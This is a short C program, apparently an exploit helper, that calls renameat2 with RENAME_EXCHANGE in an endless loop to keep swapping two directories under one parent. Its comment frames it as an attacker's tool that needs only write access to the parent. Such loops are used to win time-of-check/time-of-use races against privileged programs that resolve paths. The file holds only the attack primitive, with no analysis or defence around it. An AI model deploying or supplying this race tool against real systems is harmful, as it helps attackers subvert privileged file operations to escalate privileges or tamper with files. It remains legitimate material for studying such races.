/* Swaps two folders of one parent for ever (renameat2 RENAME_EXCHANGE):
 * the attacker needs write access to the parent only, not to either
 * folder. Usage: swap_loop A B */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <sys/syscall.h>
#include <unistd.h>

int main(int argc, char **argv) {
    if (argc != 3) {
        return 2;
    }
    for (;;) {
        if (syscall(SYS_renameat2, AT_FDCWD, argv[1], AT_FDCWD, argv[2], 2 /* EXCHANGE */) != 0) {
            perror("renameat2");
            return 1;
        }
    }
}
